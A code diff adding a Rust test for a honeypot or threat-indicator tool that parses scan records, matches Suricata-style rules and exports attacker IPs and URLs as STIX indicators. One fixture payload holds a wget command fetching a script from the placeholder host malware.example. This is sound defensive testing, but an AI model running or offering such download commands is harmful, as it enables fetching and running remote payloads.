@@ -3,7 +3,7 @@
 use std::path::Path;
 use std::process::Command;
 
-use crate::support::{Scratch, View, append, lines, report};
+use crate::support::{Scratch, View, append, hex, lines, report};
 
 /// Rules, lists and data on addresses of an operator.
 fn enrichment(directory: &Path) {
@@ -84,4 +84,72 @@ fn data_and_rules_are_looked_up_when_records_arrive_and_again_by_retag() {
     let report = report(&["--state-dir", state.to_str().unwrap()]);
     assert_eq!(report["top"]["tags"][0]["count"], sevens);
     assert_eq!(report["top"]["countries"][0]["value"], "SE");
+}
+
+/// A line of a half-open scan of port 8080, as the agent writes it; `number` makes source and time.
+fn half_open(number: u64) -> String {
+    let time = format!("2026-01-01T00:00:{number:02}.222426Z");
+    format!(
+        "{{\"timestamp\":{},\"record_type\":\"scan\",\"schema\":\"spip/1\",\"name\":\"test\",\"run\":\"b\",\"time\":\"{time}\",\
+         \"source_ip\":\"128.0.1.{number}\",\"count\":300,\"first_time\":\"{time}\",\"last_time\":\"{time}\",\
+         \"destination_ports\":[\"8080\"],\"destination_port_count\":1,\"destination_ips\":[\"192.0.2.1\"],\"destination_ip_count\":1,\
+         \"source_port_min\":56879,\"source_port_max\":56879,\"tools\":[{{\"tool\":\"masscan\",\"count\":300}}],\"syn_variants\":1,\
+         \"syn\":{{\"ttl\":255,\"window\":1024,\"options\":[],\"muonfp\":\"1024:::\",\"p0f\":\"4:255+0:0:0:1024,0:::0\",\"tools\":[\"masscan\"]}},\
+         \"seq\":{number}}}\n",
+        1_767_225_600 + number
+    )
+}
+
+#[test]
+fn indicators_have_sources_of_attacks_and_no_source_of_a_half_open_scan() {
+    let scratch = Scratch::new("indicators");
+    let (log, state, rules) = (scratch.0.join("spip.json"), scratch.0.join("state"), scratch.0.join("own.rules"));
+    // The second rule has no condition on a payload: it would match any record of the sources that scan.
+    std::fs::write(
+        &rules,
+        "alert tcp any any -> any any (msg:\"Greeting with 7\"; content:\"hi \"; content:\"7\"; classtype:attempted-admin; sid:1000007; rev:1;)\n\
+         alert ip [128.0.1.0/24] any -> any any (msg:\"Listed\"; classtype:attempted-admin; sid:1000008; rev:1;)\n",
+    )
+    .unwrap();
+    // The payload of session 17 names a host to download from. Source 128.0.1.2 scans, and then connects, too.
+    let download = "hi 7 wget http://malware.example/a.sh";
+    let sessions = public(1, 21).replace("\"payload\":\"hi 17\"", &format!("\"payload\":\"{download}\"")).replace(
+        &format!("\"payload_hex\":\"{}\"", hex(b"hi 17")),
+        &format!("\"payload_hex\":\"{}\"", hex(download.as_bytes())),
+    );
+    let connected = lines(21, 22, Some("a")).replace("198.51.100.1", "128.0.1.2");
+    append(&log, &(sessions + &(1..6).map(half_open).collect::<String>() + &connected));
+    let (log, state, rules) = (log.to_str().unwrap(), state.to_str().unwrap(), rules.to_str().unwrap());
+    let view = View::start(&["--log", log, "--state-dir", state, "--rules", rules]);
+    view.wait_for(21);
+
+    // The scans were read: all five sources, of which one has connected.
+    let scans = view.get("/api/v1/scans?range=all");
+    assert_eq!(scans["sources"]["value"], 5, "{scans}");
+    let connected = |line: &&serde_json::Value| line["has_connected"] == true;
+    assert_eq!(scans["latest"].as_array().unwrap().iter().filter(connected).count(), 1, "{scans}");
+
+    // Sessions 7 and 17 match the first rule, session 21 the second.
+    let listed = view.text("/api/v1/indicators?range=all&format=sources");
+    assert_eq!(listed.lines().collect::<Vec<_>>(), ["128.0.0.2", "128.0.1.2"]);
+    assert_eq!(view.text("/api/v1/indicators?range=all&format=urls").trim(), "http://malware.example/a.sh");
+    let bundle = view.get("/api/v1/indicators?range=all");
+    let mut patterns: Vec<_> =
+        bundle["objects"].as_array().unwrap().iter().filter_map(|object| object["pattern"].as_str()).collect();
+    patterns.sort_unstable();
+    assert_eq!(
+        patterns,
+        [
+            "[domain-name:value = 'malware.example']",
+            "[ipv4-addr:value = '128.0.0.2']",
+            "[ipv4-addr:value = '128.0.1.2']",
+            "[url:value = 'http://malware.example/a.sh']"
+        ]
+    );
+    for form in ["stix", "urls", "hosts", "hashes", "sources"] {
+        let text = view.text(&format!("/api/v1/indicators?range=all&format={form}"));
+        for source in [1, 3, 4, 5] {
+            assert!(!text.contains(&format!("128.0.1.{source}")), "{form}: {text}");
+        }
+    }
 }
